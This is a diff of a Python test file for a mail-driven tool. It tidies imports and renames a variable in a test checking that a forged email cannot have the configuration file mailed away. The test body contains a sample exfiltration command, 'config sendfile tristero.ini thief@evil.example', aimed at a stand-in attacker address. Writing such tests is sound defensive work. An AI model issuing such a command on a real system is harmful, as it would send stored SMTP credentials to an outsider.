@@ -10,7 +10,7 @@ import os
 import pytest
 
 from conftest import mail
-from test_repository import INI, fresh, put_file, reply, run_commands, with_files
+from test_repository import INI, fresh, put_file, run_commands, with_files
 from tristero import batch, durable, housekeeping, journal
 from tristero.site import Site
 
@@ -319,9 +319,8 @@ def test_commit_fsyncs_every_staged_file_before_the_manifest(tmp_path, monkeypat
 
 def test_config_sendfile_of_the_configuration_needs_a_superuser_password(site):
     # A forged From of a SuperUser without a password must not mail the SMTP password away.
-    from conftest import mail
     site.drop(mail(frm="boss@example.org", body="config sendfile tristero.ini thief@evil.example"))
     site.run()
     assert site.messages_to("thief@evil.example") == []
-    reply = [m for m in site.messages_to("boss@example.org") if m["Subject"].startswith("Re:")][0]
-    assert "sent to another address only by a SuperUser with a password" in reply.get_content()
+    answer = [m for m in site.messages_to("boss@example.org") if m["Subject"].startswith("Re:")][0]
+    assert "sent to another address only by a SuperUser with a password" in answer.get_content()
